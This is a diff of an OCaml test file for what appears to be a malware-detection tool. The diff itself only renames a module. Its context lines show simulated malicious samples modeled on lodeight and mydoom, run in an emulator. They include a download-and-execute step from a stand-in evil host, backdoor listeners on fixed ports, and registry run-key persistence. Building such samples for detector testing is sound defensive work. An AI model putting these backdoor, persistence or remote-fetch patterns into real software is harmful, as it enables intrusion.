@@ -4,7 +4,7 @@ let group = "table1"
 
 let high = Scenario.Malicious Secpert.Severity.High
 
-let setup = Hth.Session.setup
+let setup = Hth.Engine.setup
 
 let send_close host s : Osim.Net.actor =
   { actor_host = host; script = [ Osim.Net.Send s; Osim.Net.Close ] }
@@ -91,7 +91,7 @@ let lodeight_exe =
   std_spaces u;
   asciz u "dropname" "/tmp/beagle.exe";
   Runtime.static_sockaddr u "dl" ~ip:(snd Common.evil_host) ~port:80;
-  Runtime.static_sockaddr u "bdoor" ~ip:Hth.Session.localhost_ip ~port:1084;
+  Runtime.static_sockaddr u "bdoor" ~ip:Hth.Engine.localhost_ip ~port:1084;
   label u "_start";
   (* download a remote file and execute it *)
   connect_hard u ~sa:"dl" ~fdl:"fd1";
@@ -255,7 +255,7 @@ let mydoom_exe =
   std_spaces u;
   asciz u "regkey" "/windows/registry/Run.ctfmon";
   asciz u "regval" "ctfmon.dll";
-  Runtime.static_sockaddr u "bdoor" ~ip:Hth.Session.localhost_ip ~port:3127;
+  Runtime.static_sockaddr u "bdoor" ~ip:Hth.Engine.localhost_ip ~port:3127;
   Runtime.static_sockaddr u "relay" ~ip:(snd Common.sink_host) ~port:25;
   label u "_start";
   (* persistence: registry run key *)
@@ -360,7 +360,7 @@ let tcpwrap_exe =
       ~base:Common.exe_base ()
   in
   std_spaces u;
-  Runtime.static_sockaddr u "listen421" ~ip:Hth.Session.localhost_ip
+  Runtime.static_sockaddr u "listen421" ~ip:Hth.Engine.localhost_ip
     ~port:421;
   label u "_start";
   serve_hard u ~sa:"listen421" ~lfdl:"fd1" ~cfdl:"fd2";
